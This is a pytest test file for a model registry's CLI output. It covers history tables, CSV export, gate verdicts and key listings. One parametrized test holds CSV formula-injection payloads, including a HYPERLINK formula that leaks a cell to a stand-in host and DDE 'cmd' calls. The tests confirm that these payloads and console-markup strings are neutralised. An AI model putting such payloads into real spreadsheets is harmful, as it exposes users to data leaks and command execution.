"""The output for people and spreadsheets: complete, and safe to show."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from securesystemslib.signer import CryptoSigner

from registry.cli import output
from registry.ledger.chain import Finding, Ledger, Link
from registry.ledger.trust import Trust
from tests.registry.entries import ALICE, BOB, LEDGER_ID, TRUST, promote, repeated, trusted
from tests.registry.trials import evidence_of, measurements_of, policy_of
from tests.world import ALL_PASSED, World

HOSTILE = "see [jira] [/x] [red]all is well[/red]"


def test_an_entry_as_json_has_all_its_fields() -> None:
    values = output.entry_values(Link(3, promote("a")))
    assert values == {
        "ledger_version": 3,
        "statement": promote("a").digest,
        "tip": f"{TRUST.ledger_id}:1:{promote('a').digest}",
        "ledger_id": TRUST.ledger_id,
        "sequence": 1,
        "supersedes": None,
        "action": "promote",
        "source": "mlflow-artifacts:/1/a/artifacts/model",
        "candidate": {"version": 4, "run_id": "c0ffee"},
        "evidence": {"run_id": "beef", "sha256": "e" * 64},
        "policy": {"name": "default", "sha256": "f" * 64},
        "verdict": "11 of 12 checks passed; advisory: latency.ratio",
        "approver": "github:alice",
        "approved_at": "2026-05-04T03:02:01Z",
        "comment": "fewer false alerts – Müller",
        "url": "https://example.com/approvals/1",
        "files": {"model.onnx": "a" * 64},
    }


def cells_of(line: str) -> list[str]:
    """The cells of a line that a terminal shows."""
    return [cell.strip() for cell in line.split("│")[1:-1]]


def columns_of(line: str) -> list[str]:
    """The cells of a line in a pipe."""
    return re.split(r" {2,}", line.strip())


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """A terminal without colours, 250 columns wide."""
    for name, value in {"TTY_COMPATIBLE": "1", "NO_COLOR": "1", "COLUMNS": "250"}.items():
        monkeypatch.setenv(name, value)


HEADER = ["version", "when", "action", "candidate", "who", "policy", "verdict", "why", "evidence"]


def row(version: str, action: str, why: str, evidence: str) -> list[str]:
    """The cells of an entry, in the order of `HEADER`."""
    verdict = "11 of 12 checks passed; advisory: latency.ratio"
    when = "2026-05-04T03:02:01Z"
    return [version, when, action, "4", "github:alice", "default", verdict, why, evidence]


FIRST = promote("a")
COMMENT, EVIDENCE = "fewer false alerts – Müller", f"beef@sha256:{'e' * 64}"
LEDGER = Ledger((Link(1, FIRST), Link(2, repeated("freeze", FIRST, FIRST))), ())


@pytest.mark.usefixtures("terminal")
def test_the_history_is_a_table_on_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    output.history(LEDGER)
    out = re.sub(r"\x1b\[[0-9;]*m", "", capsys.readouterr().out)
    assert out.splitlines()[0].strip() == "Production history"
    assert [cells_of(line) for line in out.splitlines() if "github:alice" in line] == [
        row("1", "promote", COMMENT, "beef…@sha256:eeeeeeee…"),
        row("2", "freeze", COMMENT, "beef…@sha256:eeeeeeee…"),
    ]


def test_the_history_is_plain_text_in_a_pipe_with_one_line_per_entry(
    capsys: pytest.CaptureFixture[str],
) -> None:
    output.history(LEDGER)
    out = capsys.readouterr().out
    assert "\x1b" not in out
    assert "│" not in out
    assert [columns_of(line) for line in out.splitlines()] == [
        HEADER,
        row("1", "promote", COMMENT, EVIDENCE),
        row("2", "freeze", COMMENT, EVIDENCE),
    ]


def test_a_long_comment_is_not_cut_in_a_pipe(capsys: pytest.CaptureFixture[str]) -> None:
    comment = "because " * 2000 + "of this"
    output.history(Ledger((Link(1, promote("a", comment=comment)),), ()))
    header, line = capsys.readouterr().out.splitlines()
    assert comment in line
    assert line.endswith(f"beef@sha256:{'e' * 64}")
    assert header.startswith("version")


def test_a_comment_of_several_lines_is_one_line_of_the_history(
    capsys: pytest.CaptureFixture[str],
) -> None:
    output.history(Ledger((Link(1, promote("a", comment="first\nsecond")),), ()))
    _, line = capsys.readouterr().out.splitlines()
    assert "first second" in line


def csv_of(capsys: pytest.CaptureFixture[str], *links: Link) -> list[list[str]]:
    output.history_csv(Ledger(links, ()))
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))


def test_the_history_as_csv_has_a_header_and_every_entry_in_full(
    capsys: pytest.CaptureFixture[str],
) -> None:
    comment = 'line one\nline "two", and more'
    assert csv_of(capsys, Link(1, FIRST), Link(2, promote("b", FIRST, comment=comment))) == [
        HEADER,
        row("1", "promote", COMMENT, EVIDENCE),
        row("2", "promote", comment, EVIDENCE),
    ]


def test_csv_lines_end_as_rfc_4180_requires(capsys: pytest.CaptureFixture[str]) -> None:
    output.history_csv(LEDGER)
    out = capsys.readouterr().out
    assert out.count("\r\n") == 3
    assert out.endswith("\r\n")


@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("https://evil.example?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_may_run_as_a_formula_gets_an_apostrophe(
    capsys: pytest.CaptureFixture[str], comment: str
) -> None:
    _, row = csv_of(capsys, Link(1, promote("a", comment=comment)))
    assert row[7] == f"'{comment}"


def test_other_cells_get_no_apostrophe(capsys: pytest.CaptureFixture[str]) -> None:
    _, row = csv_of(capsys, Link(1, promote("a", comment="1 - 1 = 0")))
    assert row[7] == "1 - 1 = 0"


def test_the_history_shows_what_is_not_in_the_chain(capsys: pytest.CaptureFixture[str]) -> None:
    output.history(Ledger((), (Finding(7, "lost", "version 6 won"),)))
    assert "not in the chain: version 7 is lost: version 6 won" in capsys.readouterr().out


def test_the_history_shows_comments_as_they_were_written(
    capsys: pytest.CaptureFixture[str],
) -> None:
    link = Link(1, promote("a", comment=HOSTILE, approver=f"github:{HOSTILE}"))
    output.history(Ledger((link,), ()))
    assert capsys.readouterr().out.count(HOSTILE) == 2


def test_the_history_shows_findings_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    output.history(Ledger((), (Finding(1, "passed over", HOSTILE),)))
    assert HOSTILE in capsys.readouterr().out


def test_verdicts_are_shown_with_the_next_step(
    world: World, capsys: pytest.CaptureFixture[str]
) -> None:
    _, good = world.evaluate(world.register())
    _, bad = world.evaluate(world.register(quality=0.0))
    capsys.readouterr()
    output.verdicts(good)
    assert capsys.readouterr().out.splitlines()[-1] == (
        f"{ALL_PASSED}: approve it with `registry promote` and the line below"
    )
    output.verdicts(bad)
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == (
        "18 of 20 checks passed; its origin is only claimed: it cannot be promoted; train a better "
        "one"
    )
    assert columns_of(lines[0]) == ["gate", "requirement", "measured", "bound", "verdict", "note"]
    assert columns_of(lines[1]) == [
        "floor.average_precision",
        "average precision is at least 0.5",
        "0.2585",
        "0.5",
        "FAILED",
    ]


@pytest.mark.usefixtures("terminal")
def test_verdicts_are_a_table_with_candidate_and_policy_on_a_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evidence = evidence_of(policy_of(tmp_path), measurements_of())
    policy = evidence.policy.model_copy(update={"name": "[/x]"})
    output.verdicts(evidence.model_copy(update={"policy": policy}))
    out = re.sub(r"\x1b\[[0-9;]*m", "", capsys.readouterr().out)
    assert out.splitlines()[0].strip() == "Candidate 7 under policy [/x]"
    (line,) = (line for line in out.splitlines() if "floor.average_precision" in line)
    assert cells_of(line) == [
        "floor.average_precision",
        "average precision is at least 0.4",
        "0.8",
        "0.4",
        "passed",
        "",
    ]


def test_a_failed_advisory_gate_is_distinguished_from_a_required_one(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evidence = evidence_of(policy_of(tmp_path), measurements_of())
    failed = [verdict.model_copy(update={"passed": False}) for verdict in evidence.verdicts[:2]]
    advisory = failed[0].model_copy(update={"required": False})
    output.verdicts(evidence.model_copy(update={"verdicts": (advisory, failed[1])}))
    _, first, second, last = capsys.readouterr().out.splitlines()
    assert columns_of(first)[4] == "failed (advisory)"
    assert columns_of(second)[4] == "FAILED"
    assert last == (
        "0 of 2 checks passed; advisory: floor.average_precision: "
        "it cannot be promoted; train a better one"
    )


def test_notes_and_requirements_of_a_verdict_are_shown_as_they_are(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evidence = evidence_of(policy_of(tmp_path), measurements_of())
    verdict = evidence.verdicts[0].model_copy(update={"note": HOSTILE, "asks": HOSTILE})
    output.verdicts(evidence.model_copy(update={"verdicts": (verdict,)}))
    assert capsys.readouterr().out.count(HOSTILE) == 2


def test_keys_are_shown_with_their_sequences_and_state(capsys: pytest.CaptureFixture[str]) -> None:
    retired = trusted(ALICE, last=0)
    revoked = trusted(BOB, first=3, last=7).model_copy(update={"revoked": True})
    other = trusted(CryptoSigner.generate_ed25519(), first=8)
    output.keys(Trust(ledger_id=LEDGER_ID, keys=(retired, revoked, other)))
    header, *lines = (columns_of(line) for line in capsys.readouterr().out.splitlines())
    assert header == ["key", "kind", "first", "last", "state"]
    assert lines == [
        [retired.keyid[:12], "ecdsa-sha2-nistp256", "1", "0", "retired"],
        [revoked.keyid[:12], "ecdsa-sha2-nistp256", "3", "7", "revoked"],
        [other.keyid[:12], "ed25519", "8", "in use"],
    ]
